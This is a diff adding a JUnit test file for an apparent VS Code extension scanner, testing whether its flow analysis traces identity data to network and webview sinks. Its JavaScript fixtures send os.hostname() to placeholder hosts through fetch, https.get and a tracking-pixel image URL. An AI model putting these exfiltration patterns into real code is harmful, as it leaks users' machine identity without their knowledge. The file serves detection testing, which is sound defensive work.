@@ -1,0 +1,110 @@
+package dev.vsxray.scanner.javascript.flow;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.vsxray.scanner.model.Feature;
+import org.junit.jupiter.api.Test;
+
+/** What hands on to the next of its kind: observables, the modules of a bundle, and loops over either. */
+class StagesTest {
+
+    @Test
+    void aStageThatMayHandOnIsFollowedThroughManyOfItsKind() {
+        Analysis analysis = Analysis.ofActivate("""
+                class Stage {
+                  constructor(onNext) { this.onNext = onNext; }
+                  next(value) { if (Math.random() > 0.5) this.onNext(value); }
+                }
+                const through = (stage, change) => new Stage(value => stage.next(change(value)));
+                let first = new Stage(value => https.get('https://far.example/' + value));
+                for (const change of [x => x + 1, x => '' + x, x => x, x => x, x => x]) first = through(first, change);
+                first.next(os.hostname());
+                """);
+
+        assertThat(analysis.flowNames()).containsExactly("account-identity -> network-url");
+    }
+
+    @Test
+    void aFunctionThatCallsItselfForTheSameObjectEnds() {
+        Analysis analysis = Analysis.ofActivate("""
+                class Walker {
+                  walk(node) { if (Math.random() > 0.5) { this.walk(node.left); this.walk(node.right); this.walk(node.next); } }
+                }
+                new Walker().walk(JSON.parse(fs.readFileSync('tree.json')));
+                """, 100_000);
+
+        assertThat(analysis.result().gaps()).isEmpty();
+    }
+
+    @Test
+    void everyObserverIsToldWhenTheLoopOverThemIsWrittenWithItsIterator() {
+        Analysis analysis = Analysis.ofActivate("""
+                const observers = [
+                  { next: value => fetch('https://one.example/' + value) },
+                  { next: value => fetch('https://two.example/' + value) },
+                  { next: value => fetch('https://three.example/' + value) },
+                  { next: value => fetch('https://four.example/' + value) } ];
+                const told = Math.random() > 0.5 ? observers : undefined;
+                for (var all = told[Symbol.iterator](), step = all.next(); !step.done; step = all.next()) {
+                  step.value.next(os.hostname());
+                }
+                """);
+
+        assertThat(analysis.flows("account-identity", "network-url"))
+                .flatExtracting(Feature.Flow::destinations)
+                .containsExactlyInAnyOrder(
+                        "https://one.example/…",
+                        "https://two.example/…",
+                        "https://three.example/…",
+                        "https://four.example/…");
+    }
+
+    @Test
+    void everyModuleOfABundleRunsWhenItIsAskedForWhereItIsNotKnownWhetherItIs() {
+        Analysis analysis = Analysis.of("""
+                const lazily = (run, made) => () => (made || run((made = { exports: {} }).exports, made), made.exports);
+                const large = () => lazily(exports => { for (let i = 0; i < 200; i++) exports['member' + i] = i; });
+                const needed = [large(), large(), large(), large(), large(), large(), large(), large(), large(), large()];
+                const client = lazily((exports, module) => {
+                  module.exports = class { send(text) { fetch('https://far.example/' + text); } };
+                });
+                exports.activate = () => {
+                  if (Math.random() > 0.5) return;
+                  needed.forEach(module => module());
+                  const Client = client();
+                  new Client().send(require('os').hostname());
+                };
+                """);
+
+        assertThat(analysis.flowNames()).containsExactly("account-identity -> network-url");
+    }
+
+    @Test
+    void anAddressIsStillReadWhereATextIsOneOfVeryMany() {
+        Analysis analysis = Analysis.ofActivate("""
+                const name = ['a', 'b', 'c', 'd', 'e'][Math.floor(Math.random() * 5)];
+                const other = ['f', 'g', 'h', 'i'][Math.floor(Math.random() * 4)];
+                let page = '';
+                for (const turn of [1, 2, 3]) {
+                  page += '<img src="https://pixel.example/' + name + '/' + other + '/' + os.hostname() + '.png">' + name;
+                }
+                vscode.window.createWebviewPanel('p', 'P', 1).webview.html = '<p>' + page + '</p>';
+                """);
+
+        assertThat(analysis.flowNames())
+                .containsExactlyInAnyOrder("account-identity -> webview-html", "account-identity -> image-url");
+    }
+
+    @Test
+    void aTextThatIsPutTogetherInALoopIsNoCounter() {
+        Analysis analysis = Analysis.ofActivate("""
+                let address = Math.random() > 0.5 ? 'https://near.example/' : 'https://far.example/';
+                address += os.hostname();
+                fetch(address);
+                """);
+
+        assertThat(analysis.flows("account-identity", "network-url"))
+                .flatExtracting(Feature.Flow::destinations)
+                .containsExactlyInAnyOrder("https://near.example/…", "https://far.example/…");
+    }
+}
